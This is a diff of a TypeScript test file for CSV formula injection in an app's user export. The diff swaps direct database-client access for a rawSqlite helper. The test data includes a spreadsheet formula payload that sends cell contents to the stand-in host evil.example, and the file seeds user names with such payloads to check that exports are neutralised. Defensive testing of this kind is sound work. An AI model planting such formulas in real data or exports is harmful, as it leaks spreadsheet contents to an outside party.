@@ -11,6 +11,7 @@ import { isValidEmail } from '../../src/platform/input/email.ts';
 import { csvStream } from '../../src/features/exports/csv.server.ts';
 import { get } from '../helpers/http.ts';
 import { afterPost, type App, startApp, submit } from './support.ts';
+import { rawSqlite } from '../../src/platform/db.server.ts';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -37,7 +38,7 @@ beforeAll(async () => {
   app = await startApp({
     users,
     // Stored as given (createUser trims names; data from SSO claims or older versions may not be trimmed).
-    prepare: (db, ids) => PAYLOADS.forEach((name, i) => db.$client.prepare('update users set display_name = ? where id = ?').run(name, ids[`victim${i}`])),
+    prepare: (db, ids) => PAYLOADS.forEach((name, i) => rawSqlite(db).prepare('update users set display_name = ? where id = ?').run(name, ids[`victim${i}`])),
   });
 });
 afterAll(() => app?.stop());
@@ -97,7 +98,7 @@ describe('CSV formula injection', () => {
 
     const created = await submit(app.url, '/admin/users?_action=admin.createUser', app.cookies.admin, { email: '@SUM(A1)@example.com', name: 'Z', department: 'Sales', role: 'learner' });
     expect(created.status).toBe(400);
-    const stored = app.db.$client.prepare("select count(*) n from users where email glob '[=+@-]*'").get() as { n: number };
+    const stored = rawSqlite(app.db).prepare("select count(*) n from users where email glob '[=+@-]*'").get() as { n: number };
     expect(stored.n).toBe(0);
   });
 });
